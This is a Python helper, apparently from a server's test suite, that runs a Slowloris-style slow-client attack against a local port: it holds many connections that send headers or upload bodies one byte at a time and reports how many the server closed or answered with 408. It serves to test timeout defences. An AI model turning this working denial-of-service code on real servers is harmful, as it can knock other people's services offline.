"""A slow-client attacker for the tests: python slowloris.py --port P --headers N --bodies M --seconds S

Keeps N connections sending a request head one byte at a time and M uploads sending a body one byte at a
time, each byte `--interval` seconds apart; a connection the server closes is opened again, until S
seconds have passed. Prints one JSON line: connections opened, closed by the server, 408 answers seen,
and the most connections held open at once.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import resource
import time

HEAD = b"GET /echo/slow HTTP/1.1\r\nHost: victim\r\nUser-Agent: slowloris\r\nX-Padding: " + b"a" * 200 + b"\r\n"


async def attacker(port: int, payload: bytes, interval: float, stop_at: float, stats: dict) -> None:
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        stats["max_open"] = max(stats["max_open"], stats["open"])
        reading = asyncio.ensure_future(reader.read(4096))
        try:
            position = 0
            await asyncio.sleep(random.random() * interval)
            while time.monotonic() < stop_at:
                if reading.done():
                    break
                # Past the prepared bytes, keep trickling harmless header or body bytes.
                byte = payload[position : position + 1] if position < len(payload) else b"b"
                position += 1
                writer.write(byte)
                try:
                    await writer.drain()
                except OSError:
                    break
                await asyncio.wait([reading], timeout=interval)
            if reading.done():
                try:
                    data = reading.result()
                except OSError:
                    data = b""
                if data.startswith(b"HTTP/1.1 408"):
                    stats["answered_408"] += 1
                stats["closed_by_server"] += 1
        finally:
            reading.cancel()
            stats["open"] -= 1
            writer.close()


async def main(args) -> None:
    stats = {"opened": 0, "open": 0, "max_open": 0, "closed_by_server": 0, "answered_408": 0, "connect_failed": 0}
    stop_at = time.monotonic() + args.seconds
    body_head = (b"POST /upload HTTP/1.1\r\nHost: victim\r\nContent-Length: 1000000\r\n"
                 b"Content-Type: application/octet-stream\r\n\r\n")
    tasks = [attacker(args.port, HEAD, args.interval, stop_at, stats) for _ in range(args.headers)]
    # Slow bodies send their head at once, then the body a byte at a time.
    tasks += [slow_body(args.port, body_head, args.interval, stop_at, stats) for _ in range(args.bodies)]
    print(json.dumps({"ready": True}), flush=True)
    await asyncio.gather(*tasks)
    print(json.dumps(stats), flush=True)


async def slow_body(port, head, interval, stop_at, stats) -> None:
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(0.2)
            continue
        writer.write(head)
        await attacker_loop(reader, writer, interval, stop_at, stats)


async def attacker_loop(reader, writer, interval, stop_at, stats) -> None:
    stats["opened"] += 1
    stats["open"] += 1
    stats["max_open"] = max(stats["max_open"], stats["open"])
    reading = asyncio.ensure_future(reader.read(4096))
    try:
        await asyncio.sleep(random.random() * interval)
        while time.monotonic() < stop_at and not reading.done():
            writer.write(b"x")
            try:
                await writer.drain()
            except OSError:
                break
            await asyncio.wait([reading], timeout=interval)
        if reading.done():
            try:
                data = reading.result()
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 408"):
                stats["answered_408"] += 1
            stats["closed_by_server"] += 1
    finally:
        reading.cancel()
        stats["open"] -= 1
        writer.close()


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--headers", type=int, default=1000)
    parser.add_argument("--bodies", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=15.0)
    parser.add_argument("--interval", type=float, default=1.0)
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(arguments))
